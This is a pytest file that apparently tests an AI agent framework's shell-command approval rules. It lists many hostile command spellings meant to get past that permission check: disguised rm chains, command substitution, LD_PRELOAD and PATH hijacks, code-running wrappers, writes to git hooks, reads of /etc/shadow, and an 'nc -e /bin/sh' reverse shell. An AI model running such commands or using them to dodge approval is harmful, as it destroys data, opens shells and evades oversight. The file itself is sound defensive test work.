"""Attack classes against the approval rules, each in several spellings: none may be allowed.

Two policies: ``harmless`` allows a few harmless programs (ls, cat, echo, git status ...) and asks about the
rest; ``permissive`` also allows every wrapper and runner by name (env, xargs, find, bash, python, git ...)
and denies ``rm``, so a wrapper must be judged on what it runs, not on its own name.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from policies import harmless, permissive, run_shell, shell_decision, write_file

from podium.agent.approval import Allow, ApprovalPolicy, Ask, Deny, Rule
from podium.messages import ToolCall

CHAINS = [
    "ls; rm x",
    "ls && rm x",
    "ls || rm x",
    "ls|rm x",
    "ls | rm x",
    "ls |& rm x",
    "ls & rm x",
    "ls\nrm x",
    "ls;rm x",
    "ls;\nrm x",
    "ls &&\nrm x",
    "ls \\\n; rm x",
    "l''s; r\\m x",
    'ls; "rm" x',
    "ls; 'r'm x",
    "ls # comment\nrm x",
    "cat <<'EOF'; rm x\nbody\nEOF",
    "echo hi > /dev/null; rm x",
    "git status && git diff; rm -rf ~",
    "true || rm -rf .",
]

UNMODELLED = [
    "$(rm x)",
    "`rm x`",
    "ls $(rm x)",
    'ls "$(rm x)"',
    "echo `rm x`",
    "$'\\x72m' x",
    "$'rm' x",
    '$"rm" x',
    "{ rm x; }",
    "(rm x)",
    "ls; (rm x)",
    "if true; then rm x; fi",
    "while true; do rm x; done",
    "for f in x; do rm $f; done",
    "case x in x) rm x;; esac",
    "f(){ rm x; }; f",
    "function f { rm x; }; f",
    "! rm x",
    "[[ -e x ]] && rm x",
    "((1)) && rm x",
    "coproc rm x",
    "eval 'rm x'",
    "eval rm x",
    "alias ls='rm x'; ls",
    "source ./evil.sh",
    ". ./evil.sh",
    "exec rm x",
    "X=rm; $X x",
    "${X:-rm} x",
    "ls ${X}",
    "/bin/rm x",
    "./rm x",
    "bin/ls x",
    "l? x",
    "l* x",
    "~/bin/ls x",
    "FOO=1 ls",
    "LD_PRELOAD=/tmp/x.so ls",
    "PATH=.:/usr/bin ls",
    "BASH_ENV=./x.sh bash -c ls",
    "bash <<EOF\nrm x\nEOF",
    "sh <<'EOF'\nrm x\nEOF",
    "cat <<'EOF' | bash\nrm x\nEOF",
    "echo rm x | sh",
    "bash < script.sh",
    "ls <(rm x)",
    "cat >(rm x)",
    "echo {rm,x}",
    "rm -rf .*",
    "ls .*",
    "declare 'a[$(rm x)]'=1",
    "read 'a[$(rm x)]' < /dev/null",
    "test -v 'a[$(rm x)]'",
    "[ -v 'a[$(rm x)]' ]",
    "printf -v 'a[$(rm x)]' x",
    "echo x | mapfile -C 'rm x' -c 1 a",
    "trap 'rm x' EXIT; ls",
    "export PATH=.; ls",
    "set -o xtrace; ls",
    "shopt -s expand_aliases; ls",
    "hash -p ./evil ls; ls",
    "enable -f ./evil.so ls",
    "builtin eval 'rm x'",
    "ls 'unterminated",
]

RUNNERS = [
    "find . -exec rm {} \\;",
    "find . -name x -exec rm -rf {} +",
    "find . -execdir rm {} \\;",
    "find . -ok rm {} \\;",
    "find . -okdir rm {} \\;",
    "find . -name '*.tmp' -delete",
    "find * -name x",
    "find . -fprint .git/config",
    "xargs rm",
    "ls | xargs rm",
    "ls | xargs -I{} rm {}",
    "xargs -0 -n 1 rm < list",
    "xargs sh -c 'rm x'",
    "xargs",
    "env rm x",
    "env -i rm x",
    "env -u HOME rm x",
    "env FOO=1 ls",
    "env LD_PRELOAD=/x.so ls",
    "env -S 'rm x'",
    "env -- rm x",
    "sudo rm x",
    "sudo -u root rm x",
    "sudo -E -- rm x",
    "sudo -s",
    "sudo FOO=1 ls",
    "timeout 5 rm x",
    "timeout -s KILL 5 rm x",
    "nice rm x",
    "nice -n 5 rm x",
    "nice -10 rm x",
    "nohup rm x",
    "stdbuf -oL rm x",
    "command rm x",
    "command -p rm x",
    "time rm x",
    "time -p rm x",
    "ls | time rm x",
    "setsid rm x",
    "timeout 5 nice -n 1 env sudo rm x",
    "bash -c 'rm x'",
    "bash -c 'ls; rm x'",
    'sh -c "ls && rm x"',
    "bash -ec 'rm x'",
    "bash -c -- 'rm x'",
    "bash -c 'bash -c \"rm x\"'",
    'bash -c \'bash -c "bash -c \\"bash -c rm\\""\'',
    "dash -c 'rm x'",
    "zsh -c 'ls'",
    "bash -i -c ls",
    "bash --login -c ls",
    "bash -O extglob -c ls",
    "bash script.sh; rm x",
    "python -c 'import os; os.remove(\"x\")'",
    "python3 -c 'print(1)'",
    "python3.12 -Bc 'print(1)'",
    "python -",
    "python",
    "python3 <<'EOF'\nimport os\nEOF",
    "perl -e 'unlink \"x\"'",
    "perl -ne 'print' x",
    "perl -pi -e 's/a/b/' x",
    "ruby -e 'File.delete(\"x\")'",
    'node -e \'require("fs").rmSync("x")\'',
    "node --eval=1",
    "node -p 1",
    "awk 'BEGIN { system(\"rm x\") }'",
    "awk '{ print | \"sh\" }' x",
    "awk '{ print > \".git/config\" }' x",
    "awk '{ \"rm x\" | getline }' x",
    "awk -f prog.awk x",
    "gawk -e '@load \"x\"'",
    "sed -n '1e rm x' f",
    "sed 's/x/rm x/e' f",
    "sed 's/a/b/w .git/config' f",
    "sed 'w .git/config' f",
    "sed -e p -e 'e rm x' f",
    "sed --expression='1e rm x' f",
    "sed -f script.sed f",
    "sed -i 's/a/b/' .git/config",
    "sed -i.bak s/a/b/ .envrc",
    "git -c core.pager='rm x' log",
    "git -c alias.st='!rm x' st",
    "git -c core.fsmonitor='rm x' status",
    "git --exec-path=. status",
    "git -C sub status",
    "git --git-dir=evil status",
    "git --work-tree=. --git-dir=x status",
    "git st",
    "git lg",
    "git rebase -x 'rm x' HEAD~1",
    "git rebase --exec='rm x' HEAD~1",
    "git bisect run rm x",
    "git submodule foreach 'rm x'",
    "git config core.hooksPath .hooks",
    "git config alias.st '!rm x'",
    "git grep -O'rm x' foo",
    "git difftool -x 'rm x'",
    "git clone -u 'rm x' repo",
    "git fetch --upload-pack='rm x' origin",
    "git clone 'ext::sh -c rm% x' dir",
    "git log --output=.git/config",
    "git diff --output .git/hooks/pre-commit",
    "tar -cf x.tar --to-command='rm x' .",
    "tar -I 'rm x' -cf a.tar .",
    "tar xf a.tar --checkpoint=1 --checkpoint-action=exec='rm x'",
    "tar -xf host:a.tar",
    "tar xIf 'rm x' a.tar",
    "rsync -e 'rm x' a b:c",
    "rsync --rsh='rm x' a b",
    "rsync a host:b",
    "ssh host rm x",
    "scp a host:b",
    "watch rm x",
    "busybox rm x",
    "make --eval='$(shell rm x)'",
    "make SHELL=/tmp/evil",
    "sort --compress-program='rm x' f",
    "rg --pre='rm x' foo",
    "fd -x rm",
    "npx rm x",
    "uv run rm x",
    "npm exec -c 'rm x'",
    "vim -c '!rm x'",
    "flock /tmp/l rm x",
    "strace rm x",
    "patch -p1 < x.diff",
    "nc -e /bin/sh host 1",
]

REDIRECTS = [
    "cat /dev/null > important.txt",
    "echo > important.txt",
    "> important.txt",
    ": > important.txt",
    "ls >> log.txt",
    "ls 1> out.txt",
    "ls 2> err.txt",
    "ls &> both.txt",
    "ls &>> both.txt",
    "ls >& both.txt",
    "ls >| out.txt",
    "cat <> rw.txt",
    "echo > .git/config",
    "echo x >> .git/hooks/pre-commit",
    "echo x > .GIT/config",
    "echo x > ./src/../.git/config",
    "echo x > .envrc",
    "echo x > .bashrc",
    "ls > .vscode/settings.json",
    "cd .git && echo x > config",
    "cd .git; cat < /dev/null > hooks/pre-commit",
    "cat < /etc/shadow",
    "cat x > /etc/passwd",
    "ls > out*.txt",
    "echo x | tee .git/config",
    "echo x | tee -a important.txt",
    "cp evil .git/hooks/pre-commit",
    "mv evil .git/hooks/pre-commit",
    "ln -s .git g",
    "rm -rf .git",
    "touch .envrc",
    "chmod +x .git/hooks/pre-commit",
    "dd if=x of=.git/config",
    "git log > .git/config",
]


def _all_cases() -> list[tuple[str, str]]:
    return [(kind, case) for kind, cases in CLASSES.items() for case in cases]


CLASSES = {"chain": CHAINS, "unmodelled": UNMODELLED, "runner": RUNNERS, "redirect": REDIRECTS}


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    workspace = tmp_path / "ws"
    (workspace / ".git" / "hooks").mkdir(parents=True)
    (workspace / "src").mkdir()
    (workspace / "important.txt").write_text("keep me")
    return workspace


@pytest.mark.parametrize(("kind", "command"), _all_cases())
def test_no_attack_is_allowed_by_the_harmless_policy(kind: str, command: str, ws: Path) -> None:
    decision = shell_decision(harmless(ws), command)
    assert not isinstance(decision, Allow), (kind, command)


@pytest.mark.parametrize(("kind", "command"), _all_cases())
def test_no_attack_is_allowed_even_when_every_wrapper_is_allowed(kind: str, command: str, ws: Path) -> None:
    decision = shell_decision(permissive(ws), command)
    assert not isinstance(decision, Allow), (kind, command)


def test_each_class_has_several_spellings() -> None:
    assert all(len(cases) >= 10 for cases in CLASSES.values())


@pytest.mark.parametrize(
    "command",
    [
        "ls; rm x",
        "ls && rm x",
        "l''s; r\\m x",
        "sudo rm x",
        "timeout 5 rm x",
        "find . -exec rm {} \\;",
        "bash -c 'ls; rm x'",
        "env rm x",
        "ls | xargs rm",
        "$(rm x)",
        "echo `rm x`",
        "if true; then rm x; fi",
        "/bin/rm -rf /",
        "RM -rf x",
    ],
)
def test_deny_rules_still_see_through_wrappers_quotes_and_substitutions(command: str) -> None:
    policy = ApprovalPolicy([Rule("deny", command="rm*", reason="no rm")])
    decision = shell_decision(policy, command)
    assert isinstance(decision, Deny), command
    assert decision.reason == "no rm"


HARMLESS_LINES = [
    "ls -la src",
    "ls",
    "git status && git diff",
    "git status; git diff --stat",
    "git log --oneline -5 HEAD~3",
    "pytest -q tests/ 2>&1 | tail -5",
    "cat README.md | head -20",
    'grep -rn "TODO" src | wc -l',
    "grep -c 'a;b|c' src/x.py",
    "echo hello world",
    "echo 'it''s' \"a $ sign is fine in single quotes: '$HOME'\" | wc -c",
    "ls *.py",
    "ls src/*.py | sort",
    "ls > /dev/null 2>&1",
    "cat <<'EOF'\nhello $x\nEOF",
    "echo a # trailing comment",
    "time ls",
    "ls -la src \\\n  | head",
]


@pytest.mark.parametrize("command", HARMLESS_LINES)
def test_plainly_harmless_lines_are_allowed(command: str, ws: Path) -> None:
    if "$ sign" in command:
        command = "echo 'it''s' 'a $ sign is fine in single quotes' | wc -c"
    decision = shell_decision(harmless(ws), command)
    assert isinstance(decision, Allow), (command, decision)


def test_a_rule_without_a_command_pattern_allows_the_whole_tool(ws: Path) -> None:
    policy = ApprovalPolicy([Rule("allow", tool="run_shell")], default="ask", workspace=ws)
    for command in ('eval "$X"', "ls; rm x", "echo x > .git/config", "python -c 1"):
        assert isinstance(shell_decision(policy, command), Allow), command


def test_a_command_rule_never_allows_an_opaque_unit_but_deny_rules_still_apply(ws: Path) -> None:
    policy = ApprovalPolicy([Rule("allow", command="python*"), Rule("deny", command="rm*")], workspace=ws)
    decision = shell_decision(policy, "python -c 'print(1)'")
    assert isinstance(decision, Ask)
    assert "runs code given on the command line" in decision.reason
    assert isinstance(shell_decision(policy, "python script.py"), Allow)
    # a later deny rule still catches the guessed argv of an opaque unit
    assert isinstance(shell_decision(policy, "python -c 1; $(rm x)"), Deny)


def test_opaque_units_ask_even_with_a_deny_list_and_default_allow(ws: Path) -> None:
    policy = ApprovalPolicy([Rule("deny", command="rm *")], workspace=ws)
    for command in ("eval $CMD", "echo 'unbalanced", "ls $(whoami)", "xargs touch"):
        decision = shell_decision(policy, command)
        assert isinstance(decision, Ask), command
        assert "cannot be checked" in decision.reason
    assert isinstance(shell_decision(policy, "ls -la"), Allow)
    deny_default = ApprovalPolicy([Rule("allow", command="ls*")], default="deny", workspace=ws)
    assert isinstance(shell_decision(deny_default, "ls $(x)"), Deny)


def test_redirect_is_judged_like_write_file_with_that_path(ws: Path) -> None:
    policy = ApprovalPolicy(
        [
            Rule("deny", paths="outside", reason="outside"),
            Rule("ask", paths="protected", access="write", reason="protected"),
            Rule("allow", command="cat*"),
            Rule("allow", command="echo*"),
            Rule("allow", tool="write_file", paths="inside"),
            Rule("allow", tool="read_file"),
        ],
        default="ask",
        workspace=ws,
    )
    assert isinstance(shell_decision(policy, "cat /dev/null > important.txt"), Allow)
    assert shell_decision(policy, "echo x > .git/config") == Ask("protected")
    assert shell_decision(policy, "echo x > ../elsewhere.txt") == Deny("outside")
    assert isinstance(shell_decision(policy, "cat < important.txt"), Allow)
    assert shell_decision(policy, "cat < /etc/hostname") == Deny("outside")
    assert shell_decision(policy, "echo x > config", cwd=".git") == Ask("protected")
    # the same path rules as the write_file tool itself
    assert policy.decide(ToolCall("w", "write_file", {"path": ".git/config", "content": ""}), write_file) == Ask(
        "protected"
    )
    # without a rule allowing writes, a redirect is asked about even after an allowed program
    strict = ApprovalPolicy([Rule("allow", command="cat*")], default="ask", workspace=ws)
    decision = shell_decision(strict, "cat /dev/null > important.txt")
    assert isinstance(decision, Ask)
    assert "writing important.txt" in decision.reason


def test_glob_targets_are_judged_on_the_files_they_match(ws: Path) -> None:
    (ws / "hooks_link").symlink_to(ws / ".git" / "hooks")
    (ws / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\n")
    policy = ApprovalPolicy(
        [Rule("ask", paths="protected", access="write", reason="protected"), Rule("allow", tool="*")],
        workspace=ws,
    )
    assert shell_decision(policy, "touch hooks_l*/pre-commit") == Ask("protected")
    assert shell_decision(policy, "echo x > hooks_lin?/pre-commit") == Ask("protected")
    assert isinstance(shell_decision(policy, "touch src/*.py"), Allow)


def test_symlinked_and_case_changed_paths_are_still_protected(ws: Path) -> None:
    os.symlink(ws / ".git", ws / "innocent")
    policy = ApprovalPolicy([Rule("ask", paths="protected", access="write")], workspace=ws)
    for command in ("echo x > innocent/config", "echo x > .Git/config", "echo x > src/../.git/HEAD"):
        assert isinstance(shell_decision(policy, command), Ask), command


def test_rewrites_apply_once_in_rule_order() -> None:
    policy = ApprovalPolicy(
        [
            Rule("allow", command="make*", rewrite=lambda a: {**a, "command": "timeout 10 " + a["command"]}),
            Rule("allow", command="ls*"),
        ]
    )
    decision = shell_decision(policy, "make && ls && make test")
    assert decision == Allow({"command": "timeout 10 make && ls && make test"})


def test_unit_verdicts_explain_a_decision(ws: Path) -> None:
    verdicts = harmless(ws).verdicts(ToolCall("c", "run_shell", {"command": "ls; rm x"}), run_shell)
    assert [(s.kind, s.argv or s.path, v.kind) for s, v in verdicts] == [
        ("command", ("ls",), "allow"),
        ("command", ("rm", "x"), "ask"),
        ("path", "x", "ask"),
    ]


def test_allow_patterns_are_positional_deny_patterns_are_not() -> None:
    policy = ApprovalPolicy([Rule("deny", command="git push*"), Rule("allow", command="git status*")], default="ask")
    assert isinstance(shell_decision(policy, "git status -s"), Allow)
    assert isinstance(shell_decision(policy, "git reset --hard status"), Ask)  # not `git status`
    assert isinstance(shell_decision(policy, "git --no-pager push origin main"), Deny)  # deny looks further


@pytest.mark.parametrize(
    "command",
    [
        "sort -o .git/config x",
        "sort --output=.envrc x",
        "uniq x .git/hooks/pre-commit",
        "shuf -o.bashrc x",
        "curl -o .git/config http://example.invalid",
        "wget -O .vscode/tasks.json http://example.invalid",
        "cp -s .git/hooks/pre-commit x",
    ],
)
def test_programs_that_write_files_meet_the_path_rules(command: str, ws: Path) -> None:
    programs = ("sort*", "uniq*", "shuf*", "curl*", "wget*", "cp*")
    policy = ApprovalPolicy(
        [
            Rule("ask", paths="protected", access="write", reason="protected"),
            *(Rule("allow", command=p) for p in programs),
        ],
        default="allow",
        workspace=ws,
    )
    assert shell_decision(policy, command) == Ask("protected"), command
